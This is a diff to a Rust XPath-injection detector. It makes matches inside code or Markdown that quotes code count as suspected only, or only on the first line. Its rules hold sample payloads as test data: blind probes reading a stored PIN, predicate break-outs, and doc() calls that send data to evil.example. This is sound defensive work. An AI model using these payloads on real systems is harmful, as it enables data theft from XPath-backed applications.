@@ -54,7 +54,8 @@ static BLIND_PROBE: Rule = Rule {
     paranoia: Paranoia::One,
     summary: "a question about an XML document's structure",
     details: "`count(/*)` and `substring(//user/pin,1,1)='4'` read a document that the sender cannot see, one answer at a \
-              time. Pass values as variables of the XPath library.",
+              time. Pass values as variables of the XPath library. \
+              Source code and Markdown that quotes code are suspected only.",
     matches: &["count(/descendant::*)", "substring(//account[1]/pin,1,1)='4", "name(/*[1])='root"],
     passes: &["count(//a)", "//a[count(/*)=1]", "count(a/b)", "name(a)=b", "substring(/a/b)"],
 };
@@ -68,7 +69,8 @@ static PREDICATE_BREAK_OUT: Rule = Rule {
     paranoia: Paranoia::One,
     summary: "a value that closes its predicate and adds a path",
     details: "`'] | //* | a['` ends the predicate and selects every node of the document. Pass values as variables of the \
-              XPath library.",
+              XPath library. \
+              In source code and Markdown that quotes code only the first line counts.",
     matches: &["x'] | //pin | a['", "1]|/*|b[1", "']/../*['a'='a", "y\"]//secret"],
     passes: &["//a['b'] | //c", "[a] | [b]", "a] | b", "[x](//host/y)"],
 };
@@ -81,7 +83,8 @@ static DOCUMENT_ACCESS: Rule = Rule {
     cwe: 643,
     paranoia: Paranoia::One,
     summary: "a function of XPath that fetches a document",
-    details: "`doc('http://…')` makes the server fetch an address, and carries data out in it. Turn the function off.",
+    details: "`doc('http://…')` makes the server fetch an address, and carries data out in it. Turn the function off. \
+              Source code and Markdown that quotes code are suspected only.",
     matches: &[
         "doc('http://evil.example/x')",
         "x' and doc(concat('http://evil.example/', name()))='",
@@ -109,10 +112,12 @@ static TRIGGERS: ByteSet = ByteSet::new(b"([]:'\"");
 const WANTS: Bytes = Bytes::CALL.with(Bytes::AXIS).with(Bytes::PREDICATE);
 
 fn detect(subject: &Subject<'_>, hits: &mut Hits) {
-    walk(subject.text, hits);
+    walk(subject.text, subject.quotes_code(), hits);
 }
 
-fn walk(text: &[u8], hits: &mut Hits) {
+fn walk(text: &[u8], quotes: bool, hits: &mut Hits) {
+    // A value that breaks out does so in its first line; in later ones, and behind a backtick, brackets and quotes may be of code.
+    let first = text.iter().position(|&byte| quotes && matches!(byte, b'\n' | b'`')).unwrap_or(text.len());
     let mut rest = text;
     let mut depth = 0_usize;
     let mut open = [false; 2];
@@ -121,7 +126,7 @@ fn walk(text: &[u8], hits: &mut Hits) {
         let ahead = before(text, behind);
         let ahead = ahead.get(..ahead.len().saturating_sub(1)).unwrap_or_default();
         match byte {
-            b'(' => call(ahead, behind, depth == 0, hits),
+            b'(' => call(ahead, behind, depth == 0, quotes, hits),
             b'[' => {
                 depth += 1;
                 if behind.first() == Some(&b'@') && ends_in_step(ahead) {
@@ -129,14 +134,14 @@ fn walk(text: &[u8], hits: &mut Hits) {
                 }
             }
             b']' if depth > 0 => depth -= 1,
-            b']' => adds_path(ahead, behind, hits),
+            b']' => adds_path(ahead, behind, ahead.len() > first, hits),
             b':' => axis(ahead, behind, hits),
             _ => {
                 if let Some(open) = open.get_mut(usize::from(byte == b'"')) {
                     *open = !*open;
                     // A quote that opens nothing, and ends the predicate.
                     if *open && let [b']', behind @ ..] = skip_blanks(behind) {
-                        adds_path(b"'", behind, hits);
+                        adds_path(b"'", behind, ahead.len() > first, hits);
                     }
                 }
             }
@@ -182,7 +187,7 @@ fn function(name: &[u8]) -> Option<Function> {
 }
 
 /// Judges a call: the name ends `ahead`, the arguments start `behind`.
-fn call(ahead: &[u8], behind: &[u8], outside: bool, hits: &mut Hits) {
+fn call(ahead: &[u8], behind: &[u8], outside: bool, quotes: bool, hits: &mut Hits) {
     let part = |byte: &u8| is_word(*byte) || *byte == b'-';
     let count = ahead.iter().rev().take(24).take_while(|byte| part(byte)).count();
     let (ahead, name) = ahead.split_at_checked(ahead.len().saturating_sub(count)).unwrap_or_default();
@@ -203,7 +208,7 @@ fn call(ahead: &[u8], behind: &[u8], outside: bool, hits: &mut Hits) {
                 _ => starts_with(argument, b"concat("),
             };
             if address && !ahead.last().is_some_and(|&byte| part(&byte) || byte == b'.') {
-                hits.add(&DOCUMENT_ACCESS);
+                hits.add_quoted(quotes, &DOCUMENT_ACCESS);
             }
             return;
         }
@@ -235,7 +240,7 @@ fn call(ahead: &[u8], behind: &[u8], outside: bool, hits: &mut Hits) {
     } else if absolute && !matches!(last_token(ahead), Some(b'/' | b'.')) {
         let deep = argument.strip_prefix(b"//").is_some();
         if !deep || answer(argument) {
-            hits.add(&BLIND_PROBE);
+            hits.add_quoted(quotes, &BLIND_PROBE);
         }
     }
 }
@@ -292,18 +297,18 @@ fn compares(text: &[u8]) -> bool {
 }
 
 /// Judges what follows a bracket that closes nothing.
-fn adds_path(ahead: &[u8], behind: &[u8], hits: &mut Hits) {
-    let quoted = matches!(last_token(ahead), Some(b'\'' | b'"'));
-    let value = matches!(last_token(ahead), Some(b'0'..=b'9' | b')')) || quoted;
+fn adds_path(ahead: &[u8], behind: &[u8], quoted: bool, hits: &mut Hits) {
+    let string = matches!(last_token(ahead), Some(b'\'' | b'"'));
+    let value = matches!(last_token(ahead), Some(b'0'..=b'9' | b')')) || string;
     let next = skip_blanks(behind);
     let path = match next {
         [b'|', path @ ..] => matches!(skip_blanks(path), [b'/', b'/' | b'*' | b'@' | b'a'..=b'z' | b'A'..=b'Z', ..]),
         [b'/', b'/' | b'*' | b'@', ..] | [b'/', b'.', b'.', ..] => true,
-        [b'/', ..] => quoted,
+        [b'/', ..] => string,
         _ => false,
     };
     if value && path {
-        hits.add(&PREDICATE_BREAK_OUT);
+        hits.add_quoted(quoted, &PREDICATE_BREAK_OUT);
     }
 }
 
@@ -368,7 +373,7 @@ mod tests {
         fn the_quick_look_misses_nothing(text in "([(\\[\\]:'\") |/@*=1]|::|//|count\\(|name\\(\\)|or |and |text\\(|doc\\(|http|child){0,12}") {
             let text = text.as_bytes();
             let mut hits = Hits::new(Paranoia::Three);
-            walk(text, &mut hits);
+            walk(text, false, &mut hits);
             prop_assert!(hits.is_empty() || scan(text).any(WANTS));
         }
     }
